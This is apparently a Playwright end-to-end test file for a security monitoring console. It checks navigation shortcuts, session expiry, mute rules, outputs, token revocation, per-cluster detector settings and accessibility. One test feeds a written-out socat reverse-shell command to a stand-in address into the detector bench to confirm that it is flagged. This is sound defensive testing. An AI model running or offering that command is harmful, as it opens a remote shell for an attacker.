import { expect, expectAccessible, test } from "./signed_in";
import { world } from "./world";

test("keys lead from screen to screen, and help names those that count", async ({ page, visit }) => {
  await visit("/sensors");
  await page.keyboard.press("g");
  await page.keyboard.press("d");
  await expect(page).toHaveURL(/\/detectors$/);
  await page.keyboard.press("?");
  await expect(page.getByRole("dialog")).toContainText("Go to Settings");
  await expectAccessible(page);
  await page.keyboard.press("Escape");
  await expect(page.getByRole("dialog")).toHaveCount(0);
  await page.keyboard.press("Control+k");
  await expect(page.getByRole("combobox")).toBeFocused();
  await page.keyboard.type("sett");
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/\/settings$/);
});

test("a session that ends leads back to the same tab", async ({ page, visit }) => {
  await visit("/settings?tab=audit&method=tokens.create");
  await page.route("**/v2/**", (route) => route.fulfill({ status: 401, json: { error: { message: "no" } } }));
  await page.getByRole("tab", { name: "Access" }).click();
  await expect(page.getByText("Your session has ended")).toBeVisible();
  await page.unroute("**/v2/**");
  await page.getByLabel("Token").fill("wrong");
  await page.keyboard.press("Enter");
  await expect(page.getByText("The server does not take this token.")).toBeVisible();
  await page.getByLabel("Token").fill(world().token);
  await page.keyboard.press("Enter");
  await expect(page.getByRole("heading", { name: "Tokens" })).toBeVisible();
  expect(page.url()).toContain("tab=access");
});

test("a mute rule is tried before it is made, and deleted by its name", async ({ page, visit }) => {
  await visit("/settings?tab=mutes");
  await page.getByRole("button", { name: "New mute rule" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("textbox", { name: /^Name/ }).fill("quiet-tests");
  await dialog.getByRole("textbox", { name: /^Filter/ }).fill('severity="LOW" AND nonsense="x"');
  await expect(dialog.getByText(/character \d+/)).toBeVisible();
  await dialog.getByRole("textbox", { name: /^Filter/ }).fill('severity="LOW"');
  await expect(dialog.getByText(/match(?:es)? now/)).toBeVisible();
  await expectAccessible(page);
  await dialog.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Delete: quiet-tests" }).click();
  await expect(dialog.getByRole("button", { name: "Delete" })).toBeDisabled();
  await dialog.getByRole("textbox").fill("quiet-tests");
  await page.keyboard.press("Enter");
  await expect(dialog).toHaveCount(0);
  await expect(page.getByRole("rowheader", { name: /quiet-tests/ })).toHaveCount(0);
});

test("an output is made, tried, paused and deleted", async ({ page, visit }) => {
  await visit("/settings");
  await page.getByRole("button", { name: "New output" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("textbox", { name: /^Name\b(?! of)/ }).fill("tried-here");
  // the discard port: nobody listens there
  await dialog.getByRole("textbox", { name: /^Address/ }).fill("http://127.0.0.1:9/");
  await dialog.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "tried-here" }).click();
  await page.getByRole("button", { name: "Send a test" }).click();
  await expect(page.getByText("It was not taken.")).toBeVisible();
  await expectAccessible(page);
  await page.getByRole("button", { name: "Pause" }).click();
  await dialog.getByRole("button", { name: "Pause" }).click();
  await expect(page.getByRole("button", { name: "Resume" })).toBeVisible();
  await page.getByRole("button", { name: "Delete" }).click();
  await dialog.getByRole("textbox").fill("tried-here");
  await dialog.getByRole("button", { name: "Delete" }).click();
  await expect(page.getByRole("button", { name: "tried-here" })).toHaveCount(0);
});

test("a token is shown once, counts, and ends when it is revoked", async ({ page, visit }) => {
  await visit("/settings?tab=access");
  await page.getByRole("button", { name: "New token" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("textbox", { name: /^Name/ }).fill("by-console");
  await dialog.getByLabel("Limited to").fill("projects/shop");
  await expectAccessible(page);
  await dialog.getByRole("button", { name: "New token" }).click();
  const secret = await dialog.locator("code", { hasText: /^vdt_/ }).innerText();
  const asked = () => fetch(`${world().url}/v2/projects/shop/sources`, { headers: { Authorization: `Bearer ${secret}` } });
  expect((await asked()).status).toBe(200);
  await dialog.getByRole("button", { name: "Close" }).last().click();
  await page.getByRole("button", { name: "Revoke: by-console" }).click();
  await dialog.getByRole("textbox").fill("by-console");
  await dialog.getByRole("button", { name: "Revoke" }).click();
  await expect(page.getByRole("rowheader", { name: "by-console" })).toHaveCount(0);
  expect((await asked()).status).toBe(401);
});

test("a detector is turned off for one cluster, and says so", async ({ page, visit }) => {
  const place = "projects/shop/locations/eu/clusters/prod";
  await visit(`/detectors?place=${encodeURIComponent(place)}&module=REVERSE_SHELL`);
  await page.getByRole("button", { name: "Off", exact: true }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("button", { name: "As a command" }).click();
  await expect(dialog.getByText(`vedette modules disable --cluster ${place} REVERSE_SHELL`, { exact: true })).toBeVisible();
  await dialog.getByRole("button", { name: "Off", exact: true }).click();
  await expect(page.getByRole("row", { name: /^Reverse Shell REVERSE_SHELL .*Off said here/ })).toBeVisible();
  await expect(dialog).toHaveCount(0);
  await expectAccessible(page);
  await page.getByRole("button", { name: "As above" }).click();
  await dialog.getByRole("button", { name: "As above" }).click();
  await expect(dialog).toHaveCount(0);
  await page.keyboard.press("Escape");
  await expect(page.locator("#detector-REVERSE_SHELL")).toBeFocused();
});

test("detectors say of a command line what they see in it", async ({ page, visit }) => {
  await visit("/detectors?tab=bench");
  await page.getByLabel("Command line").fill("socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty");
  await page.getByRole("button", { name: "Ask the detectors" }).click();
  await expect(page.getByRole("heading", { name: /SOCAT_REVERSE_SHELL_DETECTED.*Found/ })).toBeVisible();
  await expectAccessible(page);
});

test("everything can be reached at 200 % on a small screen", async ({ page, visit }) => {
  await page.setViewportSize({ width: 720, height: 450 });
  await visit("/settings");
  await page.getByRole("button", { name: "Navigation" }).click();
  await expectAccessible(page);
  await page.getByRole("link", { name: "Detectors" }).click();
  await expect(page).toHaveURL(/\/detectors$/);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(720);
});
